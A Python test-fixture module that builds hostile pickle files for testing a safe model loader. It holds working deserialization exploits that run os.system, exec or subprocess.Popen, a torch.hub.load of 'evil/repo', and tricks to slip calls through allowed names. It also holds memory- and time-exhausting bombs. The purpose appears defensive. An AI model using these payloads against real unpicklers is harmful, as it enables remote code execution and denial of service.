"""Hostile pickles: each would create a marker file, or crash, if an unpickler met it."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from typing import Any

import cloudpickle
import numpy as np

PROTO = b"\x80\x04"


def text(value: str) -> bytes:
    """The instruction that pushes a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """The instructions that push an imported name."""
    return text(module) + text(attribute) + b"\x93"


class _Reduce:
    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self._reduced = (function, args)

    def __reduce__(self) -> Any:
        return self._reduced


def payloads(marker: str) -> dict[str, bytes]:
    """Name -> pickle; ``marker`` is the file that the harmful ones would create."""
    import builtins
    import functools
    import operator
    import os

    code = f"open({marker!r}, 'w').close()"
    touch = f"touch {marker}"
    reduce = pickle.dumps(_Reduce(os.system, touch), 4)
    box = name("gymnasium.spaces.box", "Box")
    return {
        "reduce": reduce,
        "reduce-old-protocol": pickle.dumps(_Reduce(os.system, touch), 0),
        "exec": pickle.dumps(_Reduce(builtins.exec, code), 5),
        "nested": pickle.dumps({"a": [({"b": _Reduce(os.system, touch)},)]}, 4),
        "partial": pickle.dumps(_Reduce(functools.partial, os.system, touch), 4),
        "attrgetter": pickle.dumps(_Reduce(operator.attrgetter, "__class__"), 4),
        "numpy-load": pickle.dumps(_Reduce(np.load, marker), 4),
        # The result of the call is dropped, and an innocent value left.
        "popped": PROTO + name("os", "system") + text(touch) + b"\x85R0K\x01.",
        "instance": b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        "object": b"(cos\nsystem\nS'" + touch.encode() + b"'\no.",
        # cloudpickle's way to write a function, and a class, with its code.
        "function": cloudpickle.dumps(eval(f"lambda left: [{code}]")),
        "function-called": cloudpickle.dumps(_Reduce(eval(f"lambda: [{code}]"))),
        "class": cloudpickle.dumps(
            type("Net", (), {"__module__": "__main__", "__init__": eval("lambda s: 0")})
        ),
        "subimport": PROTO + name("cloudpickle.cloudpickle", "subimport") + text("antigravity") + b"\x85R.",
        "import": PROTO + name("antigravity", "geohash") + b".",
        # Through names that are allowed.
        "dotted": PROTO + name("gymnasium.spaces.box", "Box.__init__.__globals__") + b".",
        "dotted-user": PROTO + name("tests.loading.filecraft", "FIXTURES.parent") + b".",
        "class-build": PROTO + box + b"}" + text("sample") + name("os", "system") + b"sb.",
        "method-overridden": PROTO + box + b")\x81}" + text("sample") + name("os", "system") + b"sb.",
        "state-calls": PROTO + box + b")\x81" + name("os", "system") + text(touch) + b"\x85Rb.",
        "layer-called": PROTO + name("torch.nn.modules.linear", "Linear") + b"(K\x01K\x01tR.",
        "module-list-called": PROTO
        + name("torch.nn.modules.container", "Sequential")
        + name("os", "system")
        + text(touch)
        + b"\x85R\x85R.",
        "torch-load": PROTO
        + name("torch.storage", "_load_from_bytes")
        + b"C"
        + bytes([len(reduce)])
        + reduce
        + b"\x85R.",
        "torch-hub": PROTO + name("torch.hub", "load") + text("evil/repo") + text("model") + b"\x86R.",
        "graph-module": PROTO
        + name("torch.fx.graph_module", "reduce_graph_module")
        + b"}"
        + text(code)
        + b"\x86R.",
        "jit": PROTO + name("torch.jit", "load") + text(marker) + b"\x85R.",
        "schedule-of-system": PROTO
        + name("stable_baselines3.common.utils", "FloatSchedule")
        + b")\x81}"
        + text("value_schedule")
        + name("os", "system")
        + b"sb.",
        "gym-make": PROTO + name("gymnasium", "make") + text("evil_module:Evil-v0") + b"\x85R.",
        "environment-variable": PROTO + name("os", "environ") + b".",
        "registered-extension": b"\x80\x02\x82\x01.",
        "persistent-id": b"Psomething\n.",
        "generator": PROTO
        + name("numpy.random._pickle", "__generator_ctor")
        + name("os", "system")
        + text(touch)
        + b"\x85R\x85R.",
        "object-array": pickle.dumps(np.array([_Reduce(os.system, touch)], dtype=object), 4),
        "deque-of-calls": PROTO
        + name("collections", "deque")
        + name("os", "system")
        + text(touch)
        + b"\x85R\x85R.",
        "ordered-dict-class": PROTO
        + name("collections", "OrderedDict")
        + b")R}"
        + text("__class__")
        + name("subprocess", "Popen")
        + b"sb.",
        "set-of-calls": PROTO + b"\x8f(" + name("os", "system") + text(touch) + b"\x85R\x90.",
        "call-of-a-call": PROTO
        + name("operator", "attrgetter")
        + text("system")
        + b"\x85R"
        + name("os", "path")
        + b"\x85R.",
        "reconstructor": PROTO
        + name("copyreg", "_reconstructor")
        + name("subprocess", "Popen")
        + name("builtins", "object")
        + b"N\x87R.",
    }


def bombs() -> dict[str, bytes]:
    """Name -> pickle that would take all memory or time."""
    laughs = PROTO + b"]q\x00" + b"".join(b"0(" + b"h\x00" * 10 + b"lq\x00" for _ in range(30)) + b"."
    tuples = PROTO + b")" + b"2\x86" * 60 + b"."
    keys = PROTO + b"})" + b"2\x86" * 60 + b"K\x01s."
    cycle = PROTO + b"]q\x00h\x00a."
    dtype = name("numpy", "dtype") + text("f8") + b"\x89\x88\x87R"
    array = PROTO + name("numpy._core.numeric", "_frombuffer")
    return {
        "billion-laughs": laughs,
        "doubling-tuples": tuples,
        "doubling-keys": keys,
        "cycle": cycle,
        "memo-index": PROTO + b"Nr\xff\xff\xff\x7f.",
        "long-bytes": PROTO + b"\x8e" + struct.pack("<Q", 2**40) + b".",
        "long-bytearray": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b".",
        "long-text": PROTO + b"\x8d" + struct.pack("<Q", 2**40) + b".",
        "many-lists": PROTO + b"(" + b"]" * 50_000 + b"l.",
        "deep-lists": PROTO + b"]" * 20_000 + b"a" * 19_999 + b".",
        "huge-array": array
        + b"(C\x00"
        + dtype
        + b"\x8a\x06"
        + b"\xff" * 5
        + b"\x00"
        + b"\x85"
        + text("C")
        + b"tR.",
        "negative-array": array + b"(C\x00" + dtype + b"J\xff\xff\xff\xff\x85" + text("C") + b"tR.",
        "array-many-times": PROTO
        + b"]B"
        + struct.pack("<I", 8 * 10**5)
        + bytes(8 * 10**5)
        + b"q\x000"
        + dtype
        + b"q\x010("
        + b"".join(
            name("numpy._core.numeric", "_frombuffer")
            + b"(h\x00h\x01J"
            + struct.pack("<i", 10**5)
            + b"\x85"
            + text("C")
            + b"tR"
            for _ in range(2000)
        )
        + b"e.",
        "huge-integer": PROTO + b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6 + b".",
    }
